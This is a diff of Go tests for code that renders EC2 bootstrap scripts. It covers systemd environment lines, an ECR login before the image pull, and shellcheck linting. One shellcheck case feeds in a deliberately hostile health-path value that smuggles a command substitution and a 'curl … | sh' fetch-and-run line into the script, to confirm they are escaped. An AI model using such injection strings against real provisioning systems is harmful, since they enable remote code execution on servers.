@@ -18,7 +18,10 @@ import (
 // TestUserDataScriptParses: the rendered bootstrap script is valid bash and
 // carries the app port and health path into the service unit.
 func TestUserDataScriptParses(t *testing.T) {
-	ud := UserData(9090, "/healthz")
+	ud, err := UserData(9090, "/healthz")
+	if err != nil {
+		t.Fatal(err)
+	}
 	path := filepath.Join(t.TempDir(), "user-data.sh")
 	if err := os.WriteFile(path, []byte(ud), 0o755); err != nil {
 		t.Fatal(err)
@@ -27,7 +30,7 @@ func TestUserDataScriptParses(t *testing.T) {
 		t.Fatalf("bash -n: %v\n%s", err, out)
 	}
 	// The script reads metadata with an IMDSv2 token (the launch template requires it).
-	for _, want := range []string{"APP_PORT=9090", "HEALTH_PATH=/healthz", "X-aws-ec2-metadata-token"} {
+	for _, want := range []string{`Environment="APP_PORT=9090"`, `Environment="HEALTH_PATH=/healthz"`, "X-aws-ec2-metadata-token", "<<'UNIT'"} {
 		if !strings.Contains(ud, want) {
 			t.Errorf("user data lacks %q", want)
 		}
@@ -43,7 +46,10 @@ func TestUserDataAppServes(t *testing.T) {
 	if err != nil {
 		t.Skip("python3 not installed; the app is only started on the instances")
 	}
-	ud := UserData(8080, "/health")
+	ud, err := UserData(8080, "/health")
+	if err != nil {
+		t.Fatal(err)
+	}
 	start := strings.Index(ud, "<<'PY'\n")
 	end := strings.Index(ud, "\nPY\n")
 	if start < 0 || end < start {
@@ -117,13 +123,17 @@ func TestUserDataChoice(t *testing.T) {
 		cfg  config.Compute
 		want []string
 	}{
-		{"demo app", base, []string{"/opt/webapp/app.py", "APP_PORT=8080", "HEALTH_PATH=/health"}},
+		{"demo app", base, []string{"/opt/webapp/app.py", `Environment="APP_PORT=8080"`, `Environment="HEALTH_PATH=/health"`}},
 		{"user data file", file, []string{"#!/bin/bash\necho mine\n"}},
-		{"container", app, []string{"dnf install -y docker", "ExecStartPre=/usr/bin/docker pull nginx:stable", "ExecStart=/usr/bin/docker run --rm --name webapp -p 8080:80 nginx:stable", "systemctl enable --now webapp.service"}},
+		{"container", app, []string{"dnf install -y docker", `Environment="IMAGE=nginx:stable"`, `Environment="APP_PORT=8080"`, `Environment="PORT=80"`,
+			"ExecStartPre=/usr/bin/docker pull ${IMAGE}", "ExecStart=/usr/bin/docker run --rm --name webapp -p ${APP_PORT}:${PORT} ${IMAGE}", "systemctl enable --now webapp.service"}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
-			ud := userData(c.cfg)
+			ud, err := userData(c.cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
 			for _, w := range c.want {
 				if !strings.Contains(ud, w) {
 					t.Errorf("user data lacks %q:\n%s", w, ud)
@@ -140,5 +150,88 @@ func TestUserDataChoice(t *testing.T) {
 				t.Fatalf("bash -n: %v\n%s", err, out)
 			}
 		})
+	}
+}
+
+// TestContainerLogin: a private ECR image is pulled after a registry login
+// with the instance role (region and registry from the image); any other
+// image is pulled without one. Each start logs in again before the pull.
+func TestContainerLogin(t *testing.T) {
+	const login = `ExecStartPre=/bin/bash -c 'set -o pipefail; aws ecr get-login-password --region "$$ECR_REGION" | docker login --username AWS --password-stdin "$$ECR_REGISTRY"'`
+	const pull = "ExecStartPre=/usr/bin/docker pull ${IMAGE}"
+	cases := []struct {
+		image string
+		env   []string // Environment= lines besides IMAGE, APP_PORT and PORT; nil: no login
+	}{
+		{"123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", []string{`Environment="ECR_REGION=eu-west-1"`, `Environment="ECR_REGISTRY=123456789012.dkr.ecr.eu-west-1.amazonaws.com"`, `Environment="DOCKER_CONFIG=/root/.docker"`}},
+		{"123456789012.dkr.ecr-fips.us-east-1.amazonaws.com/team/web@sha256:" + strings.Repeat("a", 64), []string{`Environment="ECR_REGION=us-east-1"`, `Environment="ECR_REGISTRY=123456789012.dkr.ecr-fips.us-east-1.amazonaws.com"`}},
+		{"nginx:stable", nil},
+		{"public.ecr.aws/nginx/nginx:1.27", nil},
+		{"ghcr.io/org/app:1", nil},
+	}
+	for _, c := range cases {
+		t.Run(c.image, func(t *testing.T) {
+			ud, err := ContainerUserData(c.image, 80, 8080)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(ud, `Environment="IMAGE=`+c.image+`"`) {
+				t.Errorf("user data lacks the IMAGE line:\n%s", ud)
+			}
+			for _, w := range c.env {
+				if !strings.Contains(ud, w+"\n") {
+					t.Errorf("user data lacks %s:\n%s", w, ud)
+				}
+			}
+			li, pi := strings.Index(ud, login), strings.Index(ud, pull)
+			switch {
+			case pi < 0:
+				t.Errorf("user data does not pull:\n%s", ud)
+			case c.env != nil && (li < 0 || li > pi):
+				t.Errorf("user data does not log in before the pull (login at %d, pull at %d):\n%s", li, pi, ud)
+			case c.env == nil && (li >= 0 || strings.Contains(ud, "ECR_")):
+				t.Errorf("user data logs in to a registry that is not ECR:\n%s", ud)
+			}
+			path := filepath.Join(t.TempDir(), "user-data.sh")
+			if err := os.WriteFile(path, []byte(ud), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
+				t.Fatalf("bash -n: %v\n%s", err, out)
+			}
+		})
+	}
+}
+
+// TestUserDataShellcheck: shellcheck finds nothing in the rendered boot
+// scripts (demo app, public image, ECR image), hostile values included.
+func TestUserDataShellcheck(t *testing.T) {
+	sc, err := exec.LookPath("shellcheck")
+	if err != nil {
+		t.Skip("shellcheck not installed (scripts/lint.sh installs it)")
+	}
+	var scripts []string
+	for _, render := range []func() (string, error){
+		func() (string, error) { return UserData(8080, "/health") },
+		func() (string, error) {
+			return UserData(8080, "/h$(touch /tmp/x)\ncurl -s https://203.0.113.9/x | sh\nUNIT\n")
+		},
+		func() (string, error) { return ContainerUserData("nginx:stable", 80, 8080) },
+		func() (string, error) {
+			return ContainerUserData("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 80, 8080)
+		},
+	} {
+		ud, err := render()
+		if err != nil {
+			t.Fatal(err)
+		}
+		path := filepath.Join(t.TempDir(), "user-data.sh")
+		if err := os.WriteFile(path, []byte(ud), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		scripts = append(scripts, path)
+	}
+	if out, err := exec.Command(sc, scripts...).CombinedOutput(); err != nil {
+		t.Errorf("shellcheck: %v\n%s", err, out)
 	}
 }
